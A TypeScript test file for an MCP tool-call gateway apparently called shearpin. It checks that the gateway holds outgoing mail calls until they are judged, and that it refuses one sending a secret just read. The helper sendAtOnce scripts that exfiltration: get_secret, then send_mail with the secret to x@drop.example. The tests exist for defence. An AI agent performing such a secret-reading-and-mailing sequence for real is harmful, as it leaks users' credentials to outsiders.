import { expect, it } from 'vitest';
import type { CallRequested, Heartbeat, Progress } from '../../../../schemas/generated/types.ts';
import { eventTypes, topics } from '../../../../schemas/topics.ts';
import type { LogFollower, LogRecord, Log } from '../../../../services/engine/ports/log.ts';
import { dataOf, type Rig, startRig, until, World } from '../../../support/gateway/gateway-rig.ts';
import { connectLegacy } from '../../../support/gateway/mcp-clients.ts';
import { mailsSeen, type Scene } from '../../../support/gateway/scenes.ts';

const listen = '127.0.0.1:0';
const patientMs = 60_000;

/** The gateway reads a topic only while the gate is open. */
class TopicGate {
  readonly #topic: string;
  #opened: Promise<void> | undefined;
  #open: () => void = () => undefined;

  constructor(topic: string) {
    this.#topic = topic;
  }

  close(): void {
    const { promise, resolve } = Promise.withResolvers<undefined>();
    this.#opened = promise;
    this.#open = () => resolve(undefined);
  }

  open(): void {
    this.#open();
    this.#opened = undefined;
  }

  around(log: Log): Log {
    return {
      producer: () => log.producer(),
      member: (groupId, wanted) => log.member(groupId, wanted),
      admin: () => log.admin(),
      follower: (options) => this.#gated(log.follower(options)),
    };
  }

  #gated(follower: LogFollower): LogFollower {
    return {
      follow: (topic, handlers) =>
        follower.follow(topic, {
          ...handlers,
          onRecord: async (record, beyond) => {
            if (topic === this.#topic) await this.#opened;
            await handlers.onRecord(record, beyond);
          },
        }),
      stop: () => follower.stop(),
    };
  }
}

interface Played extends Scene {
  readonly commands: TopicGate;
  readonly progress: TopicGate;
}

/** A gateway with a fresh feed, whose calls that send something wait. */
async function play(given: Readonly<Record<string, unknown>>, story: (scene: Played) => Promise<void>): Promise<void> {
  using world = new World();
  const [commands, progress] = [new TopicGate(topics.commands), new TopicGate(topics.progress)];
  await using rig = await startRig({
    world,
    hasWorker: true,
    serverCommand: world.serverCommand,
    given: { listen, heartbeatMs: 50, awaitJudged: ['egress.message'], awaitJudgedMs: patientMs, ...given },
    around: (log) => commands.around(progress.around(log)),
  });
  const client = await connectLegacy(rig.url);
  try {
    await client.tools();
    await until(() => lastFeedOf(rig)?.state === 'fresh');
    await story({ world, rig, client, commands, progress });
  } finally {
    commands.open();
    progress.open();
    await client.close();
  }
}

function ofType(rig: Rig, type: string): readonly LogRecord[] {
  return rig.records.filter(({ headers }) => headers['ce_type'] === type);
}

function lastFeedOf(rig: Rig): Heartbeat['feed'] | undefined {
  const last = ofType(rig, eventTypes.heartbeat).at(-1);
  return last === undefined ? undefined : (dataOf(last) as unknown as Heartbeat).feed;
}

async function verdictOfMail(rig: Rig): Promise<CallRequested['verdict']> {
  const mails = () =>
    ofType(rig, eventTypes.callRequested)
      .map((record) => dataOf(record) as unknown as CallRequested)
      .filter(({ target }) => target.name === 'send_mail');
  await until(() => mails().length > 0);
  return (mails().at(-1) ?? expect.fail()).verdict;
}

/** What reads the secret and what sends it come one at the other's heels. */
async function sendAtOnce({ client, world }: Scene) {
  await client.call('fetch_webpage', { url: 'https://news.example/today' });
  await client.call('get_secret', { entry: 'first' });
  return client.call('send_mail', { to: 'x@drop.example', body: `note ${world.secret}` });
}

it('refuses what sends a secret right after it was read', async () => {
  await play({}, async (scene) => {
    // No word of every half second comes before the call waits: it would have no reason to.
    scene.progress.close();
    const answer = sendAtOnce(scene);
    await until(() => ofType(scene.rig, eventTypes.callWaiting).length > 0);
    scene.progress.open();
    expect(await answer).toMatchObject({ isError: true });
    expect(mailsSeen(scene)).toBe(0);
    expect(await verdictOfMail(scene.rig)).toMatchObject({ decision: 'refused', reason: 'armed' });
    expect(await scene.rig.metrics()).toMatch(/shearpin_gateway_waits_total\{[^}]*end="judged"[^}]*\} 1\n/);
  });
});

it('lets no call go by the word that it is judged before the commands of that are in force', async () => {
  await play({}, async (scene) => {
    const { rig, commands: gate } = scene;
    gate.close();
    let isAnswered = false;
    const answer = sendAtOnce(scene).finally(() => (isAnswered = true));
    await until(() => ofType(rig, eventTypes.callWaiting).length > 0);
    const asked = ofType(rig, eventTypes.callWaiting)[0] ?? expect.fail();
    const words = () =>
      rig.records
        .filter(({ topic }) => topic === topics.progress)
        .map((record) => (dataOf(record) as unknown as { readonly body: Progress }).body)
        .filter(({ offset, commands }) => BigInt(offset) > asked.offset && commands !== undefined);
    // The second comes half a second after the first, which the gateway has taken by then.
    await until(() => words().length > 1);
    expect(isAnswered).toBe(false);
    gate.open();
    expect(await answer).toMatchObject({ isError: true });
    expect(mailsSeen(scene)).toBe(0);
    expect(await verdictOfMail(rig)).toMatchObject({ decision: 'refused', reason: 'armed' });
  });
});

it('does not wait where everything was judged, nor calls of other capabilities', async () => {
  await play({ awaitJudged: ['pay'] }, async ({ client, rig }) => {
    await client.call('fetch_webpage', { url: 'https://news.example/today' });
    await client.call('send_mail', { to: 'x@drop.example', body: 'hello' });
    expect(ofType(rig, eventTypes.callWaiting)).toEqual([]);
  });
  await play({}, async ({ client, rig }) => {
    await client.call('send_mail', { to: 'x@drop.example', body: 'hello' });
    const asked = ofType(rig, eventTypes.callWaiting).length;
    await until(() => ofType(rig, eventTypes.callCompleted).length === 1);
    const { offset } = ofType(rig, eventTypes.callCompleted)[0] ?? expect.fail();
    const isJudged = () =>
      rig.records.some(
        (record) =>
          record.topic === topics.progress &&
          BigInt((dataOf(record) as unknown as { readonly body: Progress }).body.offset) > offset,
      );
    await until(isJudged);
    await client.call('send_mail', { to: 'x@drop.example', body: 'hello again' });
    expect(await rig.metrics()).not.toMatch(/shearpin_gateway_waits_total\{[^}]*end="(late|full)"/);
    expect(ofType(rig, eventTypes.callWaiting).length).toBeLessThanOrEqual(asked + 1);
  });
});

it.each([
  ['passes', { failurePolicy: { 'egress.message': 'open' } }, 1],
  ['is refused', { failClosed: ['egress.*'] }, 0],
])('a call for which nobody judged in time %s as its capability is set', async (_name, policy, mails) => {
  await play({ ...policy, awaitJudgedMs: 50 }, async (scene) => {
    await scene.rig.stopWorker();
    await scene.client.call('fetch_webpage', { url: 'https://news.example/today' });
    const { isError } = await scene.client.call('send_mail', { to: 'x@drop.example', body: 'hello' });
    expect(isError).toBe(mails === 0);
    expect(mailsSeen(scene)).toBe(mails);
    expect(await verdictOfMail(scene.rig)).toMatchObject({ reason: 'feed-stale' });
    expect(await scene.rig.metrics()).toMatch(/shearpin_gateway_waits_total\{[^}]*end="late"[^}]*\} 1\n/);
  });
});
